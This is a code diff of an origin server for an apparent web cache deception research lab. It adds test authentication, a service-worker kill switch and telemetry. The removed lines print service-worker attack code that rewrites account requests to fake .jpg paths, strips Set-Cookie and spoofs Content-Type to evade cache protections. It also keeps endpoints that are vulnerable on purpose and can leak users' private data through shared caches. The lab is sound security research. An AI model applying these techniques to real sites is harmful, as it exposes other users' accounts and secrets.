@@ -1,16 +1,18 @@
 import express from 'express';
 import https from 'https';
-import fs from 'fs';
 import { fileURLToPath } from 'url';
 import { dirname, join } from 'path';
 import { Pool } from 'pg';
 import cors from 'cors';
 import helmet from 'helmet';
 import dotenv from 'dotenv';
-import selfsigned from 'selfsigned';
 
-import { getStrategy, validateStrategy } from './strategies.js';
+import { parseStrategy, STRATEGY_NAMES, FRAGMENT_NAMES } from './strategies.js';
+import { createAuth, requireCsrf } from './auth.js';
+import { parseRoutingMode, MOUNTED_ROUTES, ROUTING_MODE_NAMES } from './routing-modes.js';
 import { createRateLimiter } from './middleware/rate-limiter.js';
+import { generateSSL } from './ssl.js';
+import { buildSW, buildKillSwitchSW, parseSWParams, SWParameterError, SW_TYPES, SW_EVENT_TYPES } from '../sw/registry.js';
 
 const __filename = fileURLToPath(import.meta.url);
 const __dirname = dirname(__filename);
@@ -20,6 +22,13 @@ dotenv.config({ path: join(__dirname, '../.env') });
 
 const app = express();
 app.set('trust proxy', 1); // Trust the first proxy (Nginx)
+
+// How request paths map onto routes (origin/routing-modes.js); legacy, the
+// default, is the original delimiter/prefix handling T3 was built against
+const ROUTING = parseRoutingMode(process.env.ORIGIN_ROUTING || 'legacy');
+app.set('strict routing', ROUTING.strict);
+app.set('case sensitive routing', ROUTING.caseSensitive);
+
 const PORT = process.env.ORIGIN_PORT || 3443;
 const NODE_ENV = process.env.NODE_ENV || 'development';
 
@@ -45,8 +54,26 @@ app.use(helmet({
 
 app.use(cors());
 app.use(express.json());
-// Tighten global rate limit for security testing: 10 requests per 60 seconds
-app.use(createRateLimiter(60 * 1000, 5));
+app.use(express.urlencoded({ extended: false }));
+
+// SW kill switch: while active, every response (429s included, so this runs
+// before the rate limiter) clears site storage - which unregisters workers -
+// and /sw/:type serves a self-unregistering no-op worker.
+const swKillSwitch = { active: false, activatedAt: null, reason: null };
+
+app.use((req, res, next) => {
+  if (swKillSwitch.active) {
+    res.set('Clear-Site-Data', '"storage"');
+  }
+  next();
+});
+
+// Global rate limit: RATE_LIMIT_MAX requests (default 5) per RATE_LIMIT_WINDOW_MS
+// (default 60 s) per client; test runs start the origin with their own limit
+app.use(createRateLimiter(
+  parseInt(process.env.RATE_LIMIT_WINDOW_MS) || 60 * 1000,
+  parseInt(process.env.RATE_LIMIT_MAX) || 5
+));
 
 // Request logging middleware
 app.use((req, res, next) => {
@@ -74,26 +101,26 @@ app.use((req, res, next) => {
   next();
 });
 
-// Authentication simulation middleware
-const simulateAuth = (req, res, next) => {
-  const sessionCookie = req.headers.cookie?.match(/session=([^;]+)/)?.[1];
-  
-  if (sessionCookie) {
-    req.user = {
-      id: `user-${sessionCookie.split('-').pop()}`,
-      session: sessionCookie,
-      isAuthenticated: true
-    };
-  } else {
-    req.user = {
-      id: 'anonymous',
-      session: null,
-      isAuthenticated: false
-    };
+// Routing-mode rewrites (delimiters, matrix parameters, encoded slashes,
+// format suffixes, prefix mounts) happen before routing, while the CDN keeps
+// the full path in its cache key
+app.use((req, res, next) => {
+  const queryIndex = req.url.indexOf('?');
+  const path = queryIndex === -1 ? req.url : req.url.slice(0, queryIndex);
+  const query = queryIndex === -1 ? '' : req.url.slice(queryIndex);
+
+  const routedPath = ROUTING.rewrite(path, MOUNTED_ROUTES);
+
+  if (routedPath !== path) {
+    req.url = routedPath + query;
   }
-  
+
   next();
-};
+});
+
+// Test users and signed sessions (origin/auth.js); TEST_USERS, TEST_USER_PASSWORD,
+// SESSION_SECRET and SESSION_TTL_SECONDS come from .env
+const { users, sessions, authenticate } = createAuth();
 
 // Health check
 app.get('/health', (req, res) => {
@@ -104,21 +131,129 @@ app.get('/health', (req, res) => {
   });
 });
 
-// FIXED: Proper path handling for all /account* variations
-app.use(['/account','/account.jpg','account/account-sw-wcd-cache.jpg'], simulateAuth, (req, res) => {
-  const strategy = req.query.strategy || 'proper';
-  
+// Admin routes: ADMIN_TOKEN (X-Admin-Token header) when set. Without one, only
+// outside production and only from loopback straight to the origin: the CDN
+// simulator and proxies add X-Forwarded-For
+const LOOPBACK = ['127.0.0.1', '::1', '::ffff:127.0.0.1'];
+
+const requireAdmin = (req, res, next) => {
+  const token = process.env.ADMIN_TOKEN;
+  const direct = LOOPBACK.includes(req.socket.remoteAddress) && !req.headers['x-forwarded-for'];
+  const allowed = token ? req.headers['x-admin-token'] === token : NODE_ENV !== 'production' && direct;
+
+  if (!allowed) {
+    return res.status(403).json({ error: 'Admin access denied' });
+  }
+  next();
+};
+
+app.get('/admin/sw-kill-switch', requireAdmin, (req, res) => {
+  res.json(swKillSwitch);
+});
+
+// Body: { "active": true|false, "reason": "..." } (active defaults to true)
+app.post('/admin/sw-kill-switch', requireAdmin, (req, res) => {
+  const active = req.body?.active !== false;
+
+  swKillSwitch.active = active;
+  swKillSwitch.activatedAt = active ? new Date().toISOString() : null;
+  swKillSwitch.reason = active ? req.body?.reason || null : null;
+
+  console.log('[KILL-SWITCH]', JSON.stringify(swKillSwitch));
+  res.json(swKillSwitch);
+});
+
+// Sessions: POST /auth/login { username, password } (JSON or form) sets the
+// signed session cookie and returns the CSRF token and the user's own data
+app.post('/auth/login', (req, res) => {
+  res.set('Cache-Control', 'no-store');
+  const user = users.verify(req.body?.username, req.body?.password);
+
+  if (!user) {
+    return res.status(401).json({ error: 'Invalid username or password' });
+  }
+
+  const { session, token } = sessions.create(user);
+  res.set('Set-Cookie', sessions.cookie(token));
+  console.log('[AUTH]', JSON.stringify({ event: 'login', user: user.id }));
+
+  res.json({
+    user: { id: user.id, displayName: user.displayName },
+    csrfToken: session.csrfToken,
+    expiresAt: new Date(session.expiresAt).toISOString(),
+    account: user.sensitive
+  });
+});
+
+app.post('/auth/logout', authenticate, requireCsrf, (req, res) => {
+  sessions.destroy(req.session.sid);
+  res.set('Cache-Control', 'no-store');
+  res.set('Set-Cookie', sessions.clearCookie());
+  console.log('[AUTH]', JSON.stringify({ event: 'logout', user: req.user.id }));
+  res.json({ loggedOut: true });
+});
+
+app.get('/auth/session', authenticate, (req, res) => {
+  res.set('Cache-Control', 'no-store');
+  res.json({
+    user: req.user,
+    csrfToken: req.session?.csrfToken || null,
+    expiresAt: req.session ? new Date(req.session.expiresAt).toISOString() : null
+  });
+});
+
+// Headers of a parsed strategy; fragments such as stripSetCookie also remove
+// some. A strategy's Set-Cookie re-issues the caller's own session when it has one.
+function applyStrategyHeaders(req, res, { headers, remove }) {
+  Object.entries(headers).forEach(([key, value]) => {
+    res.set(key, value);
+  });
+  if (headers['Set-Cookie'] && req.session) {
+    res.set('Set-Cookie', sessions.cookie(req.session.token));
+  }
+  remove.forEach(header => res.removeHeader(header));
+}
+
+// The signed-in user's private data plus the CSRF token and logout form; these
+// are what cross-user leakage looks for in another user's cached response
+function renderAccountDetails(req) {
+  if (!req.user.isAuthenticated) {
+    return '<p id="account-details" data-user="anonymous">Not signed in</p>';
+  }
+
+  return `
+        <meta name="csrf-token" content="${req.session.csrfToken}">
+        <section id="account-details" data-user="${req.user.id}">
+          <p><strong>Signed in as:</strong> <span id="user-name">${req.user.displayName}</span></p>
+          <p><strong>Email:</strong> <span id="user-email">${req.account.email}</span></p>
+          <p><strong>Account number:</strong> <code id="account-number">${req.account.accountNumber}</code></p>
+          <p><strong>API key:</strong> <code id="api-key">${req.account.apiKey}</code></p>
+          <p><strong>Canary:</strong> <code id="user-canary">${req.account.canary}</code></p>
+          <form method="post" action="/auth/logout">
+            <input type="hidden" name="_csrf" value="${req.session.csrfToken}">
+            <button type="submit">Sign out</button>
+          </form>
+        </section>`;
+}
+
+const logPageView = (req, strategy, marker, status = 200) => {
+  pool.query(
+    'INSERT INTO origin_logs (path, strategy, marker, user_id, response_status) VALUES ($1, $2, $3, $4, $5)',
+    [req.path, strategy, marker, req.user.id, status]
+  ).catch(err => console.error('DB log error:', err));
+};
+
+// Markers name the user a page was rendered for, so a cached copy shows whose it was
+const createMarker = (req) => `marker-${req.user.id}-${Date.now()}-${Math.random().toString(36).substr(2, 9)}`;
+
+// Account page; which /account* variations reach it is up to ORIGIN_ROUTING
+app.get('/account', authenticate, (req, res) => {
   try {
-    validateStrategy(strategy);
-    const headers = getStrategy(strategy);
-    
-    Object.entries(headers).forEach(([key, value]) => {
-      res.set(key, value);
-    });
+    const { name: strategy, ...headers } = parseStrategy(req.query.strategy || 'proper');
+    applyStrategyHeaders(req, res, headers);
 
-    const marker = `marker-${Date.now()}-${Math.random().toString(36).substr(2, 9)}`;
+    const marker = createMarker(req);
     
-    // HTML response that works for both /account and /account.jpg
     res.send(`
       <!DOCTYPE html>
       <html>
@@ -132,6 +267,7 @@ app.use(['/account','/account.jpg','account/account-sw-wcd-cache.jpg'], simulate
         <p><strong>Original URL:</strong> ${req.originalUrl}</p>
         <p><strong>Marker:</strong> <code id="marker">${marker}</code></p>
         <p><strong>Strategy:</strong> ${strategy}</p>
+        ${renderAccountDetails(req)}
         <script>
           console.log('Account page loaded via path:', '${req.path}', 'Marker:', '${marker}');
           window.trialMarker = '${marker}';
@@ -141,10 +277,126 @@ app.use(['/account','/account.jpg','account/account-sw-wcd-cache.jpg'], simulate
     `);
 
     // Log to database
-    pool.query(
-      'INSERT INTO origin_logs (path, strategy, marker, user_id, response_status) VALUES ($1, $2, $3, $4, $5)',
-      [req.path, strategy, marker, req.user.id, 200]
-    ).catch(err => console.error('DB log error:', err));
+    logPageView(req, strategy, marker);
+
+  } catch (error) {
+    res.status(400).json({ error: error.message });
+  }
+});
+
+// Per-user pages; the T4 worker rewrites each to /static/user-<section>-cache
+const USER_SECTIONS = {
+  profile: 'Profile',
+  settings: 'Settings',
+  dashboard: 'Dashboard'
+};
+
+// What /static/user-<section>-cache serves (STATIC_USER_PATHS):
+//   static            - one shared template with no user data (default)
+//   shared-cache-path - the requesting user's own section, as apps that alias
+//                       "current user" pages under a static prefix do; this is
+//                       the origin side of the T4 scope misconfiguration
+const STATIC_USER_PATH_MODES = ['static', 'shared-cache-path'];
+const STATIC_USER_PATH_MODE = process.env.STATIC_USER_PATHS || 'static';
+
+if (!STATIC_USER_PATH_MODES.includes(STATIC_USER_PATH_MODE)) {
+  throw new Error(`Invalid STATIC_USER_PATHS: ${STATIC_USER_PATH_MODE}. Must be one of: ${STATIC_USER_PATH_MODES.join(', ')}`);
+}
+
+function renderUserSection(req, res, section, strategy) {
+  const marker = createMarker(req);
+  const title = USER_SECTIONS[section];
+
+  res.send(`
+      <!DOCTYPE html>
+      <html>
+      <head>
+        <title>${title} - ${req.user.displayName}</title>
+        <meta name="test-marker" content="${marker}">
+      </head>
+      <body>
+        <h1>${req.user.displayName}'s ${title}</h1>
+        <p><strong>Path:</strong> ${req.path}</p>
+        <p><strong>Section:</strong> <span id="section">${section}</span></p>
+        <p><strong>Marker:</strong> <code id="marker">${marker}</code></p>
+        <p><strong>Strategy:</strong> ${strategy}</p>
+        ${renderAccountDetails(req)}
+        <script>
+          window.trialMarker = '${marker}';
+        </script>
+      </body>
+      </html>
+    `);
+
+  logPageView(req, strategy, marker);
+}
+
+const denyUserSection = (req, res, strategy, status) => {
+  res.set('Cache-Control', 'no-store');
+  logPageView(req, strategy, null, status);
+  res.status(status).json({ error: status === 401 ? 'Sign in required' : 'Not your page' });
+};
+
+// Per-user sections: only their owner may read them
+app.get('/user/:id/:section', authenticate, (req, res, next) => {
+  if (!USER_SECTIONS[req.params.section]) {
+    return next();
+  }
+
+  try {
+    const { name: strategy, ...headers } = parseStrategy(req.query.strategy || 'proper');
+
+    if (!req.user.isAuthenticated || req.user.id !== req.params.id) {
+      return denyUserSection(req, res, strategy, req.user.isAuthenticated ? 403 : 401);
+    }
+
+    applyStrategyHeaders(req, res, headers);
+    renderUserSection(req, res, req.params.section, strategy);
+
+  } catch (error) {
+    res.status(400).json({ error: error.message });
+  }
+});
+
+// T4 targets: shared paths whose content depends on STATIC_USER_PATHS
+app.get('/static/user-:section(profile|settings|dashboard)-cache', authenticate, (req, res) => {
+  try {
+    const { section } = req.params;
+    const { name: strategy, ...headers } = parseStrategy(req.query.strategy || 'proper');
+
+    if (STATIC_USER_PATH_MODE === 'shared-cache-path') {
+      if (!req.user.isAuthenticated) {
+        return denyUserSection(req, res, strategy, 401);
+      }
+      applyStrategyHeaders(req, res, headers);
+      return renderUserSection(req, res, section, strategy);
+    }
+
+    applyStrategyHeaders(req, res, headers);
+    const marker = createMarker(req);
+
+    res.send(`
+      <!DOCTYPE html>
+      <html>
+      <head>
+        <title>${USER_SECTIONS[section]} template</title>
+        <meta name="test-marker" content="${marker}">
+      </head>
+      <body>
+        <h1>${USER_SECTIONS[section]} template</h1>
+        <p><strong>Path:</strong> ${req.path}</p>
+        <p><strong>Section:</strong> <span id="section">${section}</span></p>
+        <p><strong>Marker:</strong> <code id="marker">${marker}</code></p>
+        <p><strong>Strategy:</strong> ${strategy}</p>
+        <p id="account-details" data-user="shared">Shared static content</p>
+        <script>
+          window.trialMarker = '${marker}';
+        </script>
+      </body>
+      </html>
+    `);
+
+    logPageView(req, strategy, marker);
 
   } catch (error) {
     res.status(400).json({ error: error.message });
@@ -152,18 +404,12 @@ app.use(['/account','/account.jpg','account/account-sw-wcd-cache.jpg'], simulate
 });
 
 // FIXED: Proper API endpoint handling
-app.use('/api/user', simulateAuth, (req, res) => {
-  const strategy = req.query.strategy || 'proper';
-  
+app.get('/api/user', authenticate, (req, res) => {
   try {
-    validateStrategy(strategy);
-    const headers = getStrategy(strategy);
-    
-    Object.entries(headers).forEach(([key, value]) => {
-      res.set(key, value);
-    });
+    const { name: strategy, ...headers } = parseStrategy(req.query.strategy || 'proper');
+    applyStrategyHeaders(req, res, headers);
 
-    const marker = `marker-${Date.now()}-${Math.random().toString(36).substr(2, 9)}`;
+    const marker = createMarker(req);
     
     res.json({
       user: req.user,
@@ -171,10 +417,8 @@ app.use('/api/user', simulateAuth, (req, res) => {
       strategy: strategy,
       marker: marker,
       timestamp: new Date().toISOString(),
-      sensitiveData: req.user.isAuthenticated ? {
-        email: `user-${req.user.id}@test.example.com`,
-        profile: { ssn: '123-45-6789' }
-      } : null
+      csrfToken: req.session?.csrfToken || null,
+      sensitiveData: req.account
     });
 
   } catch (error) {
@@ -183,7 +427,7 @@ app.use('/api/user', simulateAuth, (req, res) => {
 });
 
 // T2 Header Manipulation vulnerable endpoint
-app.get('/api/reflect', simulateAuth, (req, res) => {
+app.get('/api/reflect', authenticate, (req, res) => {
   // VULNERABILITY: Reflects custom headers (simulating header injection vuln)
   const reflectedHeaders = {};
   
@@ -208,178 +452,86 @@ app.get('/api/reflect', simulateAuth, (req, res) => {
       'surrogate-control': req.headers['surrogate-control']
     },
     user: req.user,
-    marker: `marker-${Date.now()}-${Math.random().toString(36).substr(2, 9)}`
+    marker: createMarker(req)
   });
 });
 
 // Service Worker hosting with scope control
 app.get('/sw/:type', (req, res) => {
   const swType = req.params.type;
-  const validTypes = ['t1-path-sculpting', 't2-header-manipulation', 't4-scope-misconfig'];
+
+  // Replaces any research worker on its next update check
+  if (swKillSwitch.active) {
+    const killSW = buildKillSwitchSW();
+    res.set({
+      'Content-Type': 'application/javascript',
+      'Service-Worker-Allowed': '/',
+      'Cache-Control': 'no-cache, no-store, must-revalidate',
+      'X-SW-WCD-Payload-Hash': killSW.hash
+    });
+    return res.send(killSW.source);
+  }
   
-  if (!validTypes.includes(swType)) {
+  if (!SW_TYPES.includes(swType)) {
     return res.status(404).send('Service Worker not found');
   }
 
+  let sw;
+  try {
+    sw = buildSW(swType, parseSWParams(swType, req.query));
+  } catch (error) {
+    if (error instanceof SWParameterError) {
+      return res.status(400).json({ error: error.message });
+    }
+    throw error;
+  }
+
   // Critical: Allow broad scope for testing
   res.set({
     'Content-Type': 'application/javascript',
     'Service-Worker-Allowed': '/',
     'Cache-Control': 'no-cache, no-store, must-revalidate',
-    'X-Content-Type-Options': 'nosniff'
+    'X-Content-Type-Options': 'nosniff',
+    'X-SW-WCD-Payload-Hash': sw.hash
   });
 
-  const swCode = `
-    // ${swType} - Service Worker for SW-WCD Research
-    console.log('[SW-WCD] ${swType} loaded');
-    
-    const STRATEGY = '${swType}';
-    const MARKER_PREFIX = 'sw-wcd';
-    
-    self.addEventListener('install', (event) => {
-      console.log('[SW-WCD] Installing:', STRATEGY);
-      event.waitUntil(self.skipWaiting());
-    });
-    
-    self.addEventListener('activate', (event) => {
-      console.log('[SW-WCD] Activating:', STRATEGY);
-      event.waitUntil(clients.claim());
-    });
-    
-    ${getSWLogic(swType)}
-    
-    // Safety: Auto-unregister after 5 minutes
-    setTimeout(() => {
-      self.registration.unregister().then(() => {
-        console.log('[SW-WCD] Safety: Auto-unregistered', STRATEGY);
-      });
-    }, 300000);
-  `;
-
-  res.send(swCode);
+  res.send(sw.source);
 });
 
-function getSWLogic(type) {
-  switch (type) {
-    case 't1-path-sculpting':
-      return `
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          
-          // Target sensitive endpoints
-          if (url.pathname === '/account' || url.pathname.startsWith('/api/user')) {
-            console.log('[SW-WCD-T1] Intercepting:', url.pathname);
-            
-            // Rewrite URL with deceptive extension
-            const deceptiveExtension = '.jpg';
-            const deceptivePath = url.pathname + '/cache-bypass' + deceptiveExtension;
-            const deceptiveURL = url.origin + deceptivePath + url.search;
-            
-            const modifiedRequest = new Request(deceptiveURL, {
-              method: event.request.method,
-              headers: event.request.headers,
-              credentials: 'include', // CRITICAL: Preserve auth
-              mode: 'cors',
-              redirect: 'follow'
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest).then(response => {
-                // Clone to modify headers
-                const modifiedHeaders = new Headers(response.headers);
-                
-                // Remove Set-Cookie to allow CDN caching
-                modifiedHeaders.delete('Set-Cookie');
-                
-                // Spoof Content-Type to bypass Cache Deception Armor
-                modifiedHeaders.set('Content-Type', 'image/jpeg');
-                modifiedHeaders.set('X-SW-Modified', 't1-path-sculpting');
-                
-                return new Response(response.body, {
-                  status: response.status,
-                  statusText: response.statusText,
-                  headers: modifiedHeaders
-                });
-              }).catch(error => {
-                console.error('[SW-WCD-T1] Fetch failed:', error);
-                return fetch(event.request);
-              })
-            );
-          }
-        });
-      `;
-    
-    case 't2-header-manipulation':
-      return `
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          
-          if (url.pathname.startsWith('/api/')) {
-            console.log('[SW-WCD-T2] Intercepting API request:', url.pathname);
-            
-            // Add header that might be reflected by origin
-            const modifiedHeaders = new Headers(event.request.headers);
-            modifiedHeaders.set('X-Custom-Surrogate-Control', 'max-age=3600');
-            modifiedHeaders.set('X-CDN-Cache-Override', 'force-cache');
-            
-            const modifiedRequest = new Request(event.request, {
-              headers: modifiedHeaders
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest).then(response => {
-                const modifiedResponseHeaders = new Headers(response.headers);
-                modifiedResponseHeaders.set('X-SW-Modified', 't2-header-manipulation');
-                return new Response(response.body, {
-                  status: response.status,
-                  statusText: response.statusText,
-                  headers: modifiedResponseHeaders
-                });
-              })
-            );
-          }
-        });
-      `;
-    
-    case 't4-scope-misconfig':
-      return `
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          
-          // Map user-specific paths to shared cache path
-          if (url.pathname.match(/^\\/user\\/[^\\/]+\\/profile$/)) {
-            console.log('[SW-WCD-T4] Intercepting user profile:', url.pathname);
-            
-            const sharedCachePath = '/static/profile-cache';
-            const sharedURL = url.origin + sharedCachePath + url.search;
-            
-            const modifiedRequest = new Request(sharedURL, {
-              method: event.request.method,
-              headers: event.request.headers,
-              credentials: 'include',
-              mode: 'cors'
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest).then(response => {
-                const modifiedHeaders = new Headers(response.headers);
-                modifiedHeaders.set('X-SW-Modified', 't4-scope-misconfig');
-                modifiedHeaders.set('X-Shared-Cache-Path', sharedCachePath);
-                return new Response(response.body, {
-                  status: response.status,
-                  statusText: response.statusText,
-                  headers: modifiedHeaders
-                });
-              })
-            );
-          }
-        });
-      `;
-    
-    default:
-      return `// Unknown SW type`;
+// SW telemetry: structured events posted by the generated workers.
+// Lives under /sw so the rate limiter does not drop event bursts.
+app.post('/sw-telemetry', (req, res) => {
+  const events = Array.isArray(req.body) ? req.body : [req.body];
+
+  const invalid = events.find(event =>
+    !event || !SW_EVENT_TYPES.includes(event.eventType) ||
+    (event.trialId != null && (typeof event.trialId !== 'string' || event.trialId.length > 100))
+  );
+  if (invalid) {
+    return res.status(400).json({ error: `Invalid SW event. eventType must be one of: ${SW_EVENT_TYPES.join(', ')}` });
   }
-}
+
+  Promise.all(events.map(event => {
+    console.log('[SW-TELEMETRY]', JSON.stringify(event));
+    return pool.query(
+      `INSERT INTO sw_events (
+        event_timestamp, trial_id, attack_type, event_type, original_url,
+        rewritten_url, response_status, error, details
+      ) VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9)`,
+      [
+        event.timestamp || null, event.trialId || null, event.attackType || null, event.eventType,
+        event.originalUrl || null, event.rewrittenUrl || null,
+        Number.isInteger(event.responseStatus) ? event.responseStatus : null,
+        event.error || null, event.details ? JSON.stringify(event.details) : null
+      ]
+    );
+  }))
+    .then(() => res.status(204).end())
+    .catch(err => {
+      console.error('SW telemetry DB error:', err);
+      res.status(500).json({ error: 'Failed to store SW telemetry' });
+    });
+});
 
 // Error handling
 app.use((err, req, res, next) => {
@@ -395,62 +547,6 @@ app.use((req, res) => {
   res.status(404).json({ error: 'Endpoint not found' });
 });
 
-// SSL certificate configuration
-function generateSSL() {
-  // 1. Try to use the trusted mkcert certificates generated by 'npm run setup'
-  try {
-    const keyPath = join(__dirname, '../ssl/key.pem');
-    const certPath = join(__dirname, '../ssl/cert.pem');
-
-    // Check if files exist
-    if (fs.existsSync(keyPath) && fs.existsSync(certPath)) {
-      // Store a flag so we can log it later
-      process.env.SSL_MODE = 'Trusted (mkcert)';
-      return {
-        key: fs.readFileSync(keyPath),
-        cert: fs.readFileSync(certPath)
-      };
-    }
-  } catch (err) {
-    console.warn('⚠️ Could not load trusted SSL files from ../ssl/, falling back...');
-  }
-
-  // 2. Fallback: Generate temporary self-signed certs (Development only)
-  // These will cause browser warnings!
-  if (NODE_ENV === 'development') {
-    process.env.SSL_MODE = 'Self-signed (Untrusted)';
-    
-    const attrs = [{ name: 'commonName', value: 'localhost' }];
-    const options = {
-      days: 365,
-      keySize: 2048,
-      extensions: [
-        {
-          name: 'subjectAltName',
-          altNames: [
-            { type: 2, value: 'localhost' },
-            { type: 2, value: 'cdn-simulator.local' },
-            { type: 2, value: '127.0.0.1' }
-          ]
-        }
-      ]
-    };
-    
-    const cert = selfsigned.generate(attrs, options);
-    return {
-      key: cert.private,
-      cert: cert.cert
-    };
-  } else {
-    // 3. Production - use Let's Encrypt (Example paths)
-    process.env.SSL_MODE = 'Production';
-    return {
-      key: fs.readFileSync('/etc/letsencrypt/live/yourdomain.com/privkey.pem'),
-      cert: fs.readFileSync('/etc/letsencrypt/live/yourdomain.com/fullchain.pem')
-    };
-  }
-}
-
 // Start server
 const sslConfig = generateSSL();
 const server = https.createServer(sslConfig, app);
@@ -459,13 +555,17 @@ server.listen(PORT, '0.0.0.0',() => {
   console.log(` Origin server running on https://localhost:${PORT}`);
   console.log(` Environment: ${NODE_ENV}`);
   console.log(` SSL Status: ${process.env.SSL_MODE || 'Unknown'}`);
+  console.log(` Routing: ${ROUTING.name} (ORIGIN_ROUTING; modes: ${ROUTING_MODE_NAMES.join(', ')})`);
   console.log(` Endpoints:`);
-  console.log(`   - /account?strategy=proper|misconfigured|missing|conflicting`);
+  console.log(`   - /account?strategy=${STRATEGY_NAMES.join('|')}`);
   console.log(`   - /api/user?strategy=...`);
+  console.log(`   - /user/:id/{${Object.keys(USER_SECTIONS).join(',')}}?strategy=... (owner only)`);
+  console.log(`   - /static/user-{${Object.keys(USER_SECTIONS).join(',')}}-cache?strategy=... (STATIC_USER_PATHS=${STATIC_USER_PATH_MODE})`);
+  console.log(`   - POST /auth/login, POST /auth/logout (CSRF), GET /auth/session; users: ${users.list().join(', ')}`);
+  console.log(`   - compose fragments with +: ${FRAGMENT_NAMES.join(', ')}`);
   console.log(`   - /api/reflect (T2 header reflection)`);
-  console.log(`   - /sw/t1-path-sculpting`);
-  console.log(`   - /sw/t2-header-manipulation`);
-  console.log(`   - /sw/t4-scope-misconfig`);
+  SW_TYPES.forEach(type => console.log(`   - /sw/${type}`));
+  console.log(`     (query: ?ext=&targets=&header=Name:Value&lifetime=&trial=)`);
 });
 
 // Graceful shutdown